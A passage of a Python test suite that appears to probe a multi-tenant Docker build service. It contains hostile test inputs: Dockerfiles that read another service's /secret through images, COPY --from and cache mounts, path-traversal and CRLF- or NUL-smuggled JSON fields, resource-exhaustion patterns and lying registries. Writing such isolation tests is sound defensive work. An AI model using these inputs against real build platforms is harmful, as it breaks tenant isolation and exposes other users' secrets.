                 says="more than 1 GiB", one=WORKERS_GIT),
            Case("T13", "patterns that go back for ever", {**BUILDABLE, ".dockerignore": "**/*a*b*c*d*e*f*g*h*i*j*\n" * 2_000,
                 **{f"{'abcdefghi' * 12}{n}": "" for n in range(300)}}, ends="BUILDED", one=WORKERS_FILES),
            Case("T13", "a Dockerfile of one endless line", {"Dockerfile": "FROM busybox\nRUN echo built <key> # " + "x\\\n" * 10_000}, ends="BUILDED"),
            Case("T13", "a Dockerfile of many megabytes", {"Dockerfile": "#" * 20_000_000}, one=WORKERS_FILES),
            Case("T13", "variables that double", {"Dockerfile": "FROM busybox\nENV A=" + "x" * 200 + "\n" + "ENV A=$A$A\n" * 6 + "RUN echo built <key>\n"},
                 ends="", one=WORKERS_FILES)]


def t14() -> list[Case]:
    def text(**changes: object) -> str:
        return json.dumps({"deploymentId": "<key>", "serviceId": "<key>", "branch": "main", "repositoryName": "a/b", **changes})

    whole = text()
    unread = {"no JSON": "{", "nothing": " ", "a list": "[1]", "a number": "1e999", "a text": '"x"', "deep lists": "[" * 100_000,
              "deep objects": '{"a":' * 100_000, "two megabytes": text(branch="x" * 2_000_000),               "no id": json.dumps({"serviceId": "x"}), "an id that is a path": text(deploymentId="../<key>"),
              "an id with a question": text(deploymentId="<key>?x"), "an id with a line": text(deploymentId="<key>\r\nX: y"),
              "an id of another type": text(deploymentId=["<key>"]), "an id of a kilobyte": text(deploymentId="<key>" * 100),
              "two objects": whole + whole, "half a letter": whole.replace("main", "\\ud800")}
    odd = {"a NUL": whole + "\0", "broken UTF-8": whole.replace("main", "\udcff"),            "a key twice": whole.replace("}", ', "deploymentId": "<key>", "branch": "--mark-<key>"}'),
           "a branch with a NUL": whole.replace("main", "x\\u0000--mark-<key>")}
    wrong = {"a branch of another type": {"branch": 7}, "a service that is a path": {"serviceId": "../other"},
             "a service in capitals": {"serviceId": "UPPER"}, "ports without end": {"ports": [{"servicePort": 1, "containerPort": 99999}]},
             "a provider of another type": {"gitProvider": "x"}, "a provider that is none": {"gitProvider": {"type": "FILE"}},
             "a list in place of a text": {"commitSha": ["x"]}}
    return [*[Case("T14", name, queued=queued, ends="", one=REFUSED_FIRST) for name, queued in unread.items()],
            *[Case("T14", name, queued=queued, one=REFUSED_FIRST) for name, queued in odd.items()],
            *[Case("T14", name, BUILDABLE, job, one=REFUSED_FIRST) for name, job in wrong.items()]]


def t16() -> list[Case]:
    stolen = "RUN echo found=$(cat /v/secret) <key>\n"
    images = {"as a base": f"FROM <victim>\n{stolen.replace('/v', '')}", "to copy from": "FROM busybox\nCOPY --from=<victim> /secret /v/secret\n" + stolen,
              "in a variable": f"ARG B=<victim>\nFROM $B\n{stolen.replace('/v', '')}",
              "to mount": "FROM busybox\nRUN --mount=type=bind,from=<victim>,target=/v cat /v/secret\n",
              "to mount with a key in capitals": "FROM busybox\nRUN --mount=type=bind,From=<victim>,target=/v cat /v/secret\n",
              "with a name broken up": "FROM <victim:broken>\nRUN cat /secret\n", "of a registry in capitals": "FROM <victim:upper>\nRUN cat /secret\n",
              "in a heredoc": "FROM busybox\nRUN echo <<EOF\nCOPY --from=<victim> /secret /v/secret\nRUN echo \\\nEOF\nRUN cat /v/secret\n",
              "to fill a cache with": "FROM busybox\nRUN --mount=type=cache,id=<key>,target=/v,from=<victim> cat /v/secret\n",
              "by its digest": "FROM <victim:digest>\nRUN cat /secret\n",
              "of a host that ends in a dot": "FROM <victim:dot>\nRUN cat /secret\n"}
    mounts = {"by id": "id=<shared>,target=/v", "by target": "target=/<shared>", "locked": "id=<shared>,target=/v,sharing=locked",
              "upwards": "id=../<shared>,target=/v", "with the namespace written": "id=/<shared>,target=/v", "from a stage":
              "id=<shared>,target=/v,from=busybox", "by its service": "id=<victim:service>,target=/v", "as root of another":
              "id=<shared>,target=/v,uid=0,mode=0777"}
    return [*[Case("T16", f"another service's image {name}", {"Dockerfile": text}) for name, text in images.items()],
            *[Case("T16", f"another service's cache {name}", dockerfile(
                f"RUN --mount=type=cache,{mount} echo found=$(cat /v/secret /<shared>/secret 2>/dev/null) <key>\n"),
                ends="BUILDED", prints=("found= <key>",)) for name, mount in mounts.items()],
            Case("T16", "another service's repository by its commit", {}, {"repositoryName": "<victim:repository>", "commitSha": "<victim:commit>",
                 "gitProvider": {"type": "CUSTOM", "url": "<git>", "username": "us er@x", "password": "wrong"}}, one=WORKERS_GIT,
                 says="refused the user name or the password")]


CANCELS = ['{"deploymentId": "*"}', '{"deploymentId": ["<key>"]}', '{"deploymentId": "<key>', '["<key>"]', '"<key>"', "<key>", "", "\0",
           '{"deploymentId": "<key>x"}', '{"deploymentId": "<key>\\u0000"}', '{"deploymentid": "<key>"}', '{"x": {"deploymentId": "<key>"}}',
           "[" * 100_000, '{"deploymentId": "' + "x" * 1_000_000 + '"}']


def t17() -> list[Case]:
    """What is published of it while it runs: CANCELS."""
    return [Case("T17", "cancels that name nobody", dockerfile("RUN echo running <key>; sleep 4; echo went-on <key>\n"), ends="BUILDED",
                 prints=("went-on <key>",), one="the queue has no part in engines")]


def t18() -> list[Case]:
    kinds = {"realm": "sends for a token elsewhere", "loop": "asks for a login for ever", "digest": "lies about the manifest",
             "blob": "lies about a blob", "elsewhere": "has its blobs at a stranger's", "endless": "does not end its manifest"}
    return [Case("T18", f"a registry that {name}", dockerfile(f"RUN echo built <key>\n", base=f"FROM <registry>/<key>/{kind}:1\n"),
                 hides=("built <key>\n",)) for kind, name in kinds.items()]


CASES = [*t1(), *t2(), *t3(), *t4(), *t5(), *t6(), *t7(), *t8(), *t9(), *t10(), *t12(), *t13(), *t14(), *t16(), *t17(), *t18()]
